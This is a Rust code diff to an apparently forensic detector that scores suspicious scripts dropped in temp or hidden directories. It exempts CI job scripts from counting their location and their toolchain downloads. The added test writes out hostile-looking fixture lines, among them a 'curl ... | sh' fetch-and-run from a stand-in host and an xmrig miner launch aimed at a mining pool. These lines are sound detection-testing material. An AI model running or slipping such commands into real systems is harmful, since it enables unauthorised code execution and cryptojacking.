@@ -15,7 +15,11 @@
 //!
 //! Place adds one point: only scripts in temp or hidden places are judged (a home's visible files only
 //! with two kinds or more); scripts in system directories are the admin's (a cleanup script full of
-//! rival names stays out). Severity: 2-3 medium, 4-6 high, 7+ critical; one weak kind alone (history)
+//! rival names stays out). A CI job script a CI executor runs as a job step (`support::ci_job_step`:
+//! Jenkins's `/tmp/jenkins123.sh`, a runner's `/tmp/build_script_*/script.sh`) sits in temp by design
+//! and installs its tools the way their vendors document (`curl https://sh.rustup.rs | sh`): neither
+//! its place nor its downloads count; every other kind does (a job that starts a miner, kills rivals or
+//! spreads is judged as any script). Severity: 2-3 medium, 4-6 high, 7+ critical; one weak kind alone (history)
 //! is low. Programs in temp or hidden places a high script runs are subjects too (the kit's programs:
 //! the dropper's payload, the miner a watchdog restarts). Persistence files, web roots and shell histories are judged by their own rules.
 
@@ -80,7 +84,7 @@ fn kinds_of(ctx: &Context, bytes: &[u8]) -> (Vec<Kind1>, Vec<Vec<u8>>) {
         let s = shell_line::analyze(line);
         let lossy = String::from_utf8_lossy(line).to_ascii_lowercase();
         if s.download_to_shell || s.download_then_exec {
-            add(3, "downloads code and runs it", n, line);
+            add(3, DOWNLOADS, n, line);
         }
         if s.decode_to_shell {
             add(3, "decodes base64 into a shell", n, line);
@@ -164,8 +168,25 @@ fn kinds_of(ctx: &Context, bytes: &[u8]) -> (Vec<Kind1>, Vec<Vec<u8>>) {
     (kinds, runs)
 }
 
+/// What a CI job step tells about a script it runs: the executor, with the kinds it explains dropped.
+fn ci_job<'a>(job_scripts: &'a [(Vec<u8>, String)], path: &[u8]) -> Option<&'a str> {
+    job_scripts
+        .iter()
+        .find(|(s, _)| s.as_slice() == path)
+        .map(|(_, e)| e.as_str())
+}
+
+/// The kind a CI job's script is expected to show (`ci_job`).
+const DOWNLOADS: &str = "downloads code and runs it";
+
 pub fn detect(ctx: &Context) -> Vec<Finding> {
     let classes = ctx.iocs.paths();
+    let job_scripts: Vec<(Vec<u8>, String)> = ctx
+        .model
+        .processes
+        .iter()
+        .filter_map(|p| support::ci_job_step(ctx, p).map(|(executor, script)| (script, executor)))
+        .collect();
     let mut out = Vec::new();
     for (f, bytes) in common::captured(ctx.model, |p| !common::is_run_by_line_path(p)) {
         let path = f.path.as_bytes();
@@ -178,10 +199,16 @@ pub fn detect(ctx: &Context) -> Vec<Finding> {
         {
             continue;
         }
-        let (kinds, runs) = kinds_of(ctx, bytes);
+        let (mut kinds, runs) = kinds_of(ctx, bytes);
+        let ci = ci_job(&job_scripts, path);
+        if ci.is_some() {
+            kinds.retain(|k| k.what != DOWNLOADS);
+        }
         if kinds.is_empty() || (!kit_prone && kinds.len() < 2) {
             continue;
         }
+        // The executor wrote it there: the place explains nothing about the job.
+        let kit_prone = kit_prone && ci.is_none();
         let mut score = Score::default();
         for k in &kinds {
             score.add(k.points, k.what.clone());
@@ -202,6 +229,12 @@ pub fn detect(ctx: &Context) -> Vec<Finding> {
         }
         if kit_prone {
             finding = finding.evidence("in a temp or hidden place, where kits are dropped");
+        }
+        if let Some(executor) = ci {
+            finding = finding.evidence(format!(
+                "run as a job step by the CI executor {}: its place and its downloads are how CI jobs work and do not count",
+                support::q(executor)
+            ));
         }
         // The kit's programs: what a high kit script runs from temp or hidden places, on disk.
         if severity >= Severity::High {
@@ -294,5 +327,61 @@ mod tests {
             ldr.iter_subjects().any(|s| matches!(s, minetrace_schemas::findings::Subject::File { path, .. } if path.as_bytes() == b"/tmp/sys")),
             "the payload it downloads and runs is a subject"
         );
+    }
+
+    /// Review s4 item 8: a CI job script in /tmp that installs its toolchain with `curl | sh` is a job
+    /// step of its runner (the build tool ancestry's twin for CI executors); the same bytes run by a shell
+    /// under a web server, or a job script that starts a miner, are judged as any script.
+    #[test]
+    fn a_ci_job_scripts_place_and_downloads_do_not_count() {
+        let job = b"#!/usr/bin/env bash\nset -eo pipefail\ncurl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y --profile minimal --default-toolchain 1.83.0\ncargo test\n";
+        let miner_job = b"#!/bin/sh\ncurl -fsSL https://x.example/x | sh\n./xmrig --donate-level 1 -o stratum+tcp://pool.supportxmr.com:3333\n";
+        let model = fixture::model_with_processes(
+            vec![
+                fixture::file(b"/tmp/build_script_7f2c/script.sh", Some(job)),
+                fixture::file(b"/tmp/build_script_9a1b/script.sh", Some(miner_job)),
+                fixture::file(b"/tmp/php-dl.sh", Some(job)),
+            ],
+            vec![],
+            vec![
+                fixture::process(
+                    10,
+                    1,
+                    0,
+                    b"/usr/local/bin/gitlab-runner",
+                    &[b"/usr/local/bin/gitlab-runner", b"run"],
+                ),
+                fixture::process(
+                    11,
+                    10,
+                    997,
+                    b"/usr/bin/bash",
+                    &[b"bash", b"/tmp/build_script_7f2c/script.sh"],
+                ),
+                fixture::process(
+                    12,
+                    10,
+                    997,
+                    b"/usr/bin/bash",
+                    &[b"bash", b"/tmp/build_script_9a1b/script.sh"],
+                ),
+                fixture::process(20, 1, 33, b"/usr/sbin/php-fpm8.2", &[b"php-fpm: pool www"]),
+                fixture::process(21, 20, 33, b"/usr/bin/bash", &[b"bash", b"/tmp/php-dl.sh"]),
+            ],
+        );
+        let iocs = Indicators::builtin();
+        let found = detect(&Context {
+            model: &model,
+            iocs: &iocs,
+        });
+        let sev = |path: &str| {
+            found
+                .iter()
+                .find(|f| f.evidence.iter().any(|e| e.contains(path)))
+                .map(|f| f.severity)
+        };
+        assert_eq!(sev("/tmp/build_script_7f2c/script.sh"), None, "{found:#?}");
+        assert!(sev("/tmp/build_script_9a1b/script.sh") >= Some(Severity::Medium));
+        assert_eq!(sev("/tmp/php-dl.sh"), Some(Severity::High));
     }
 }
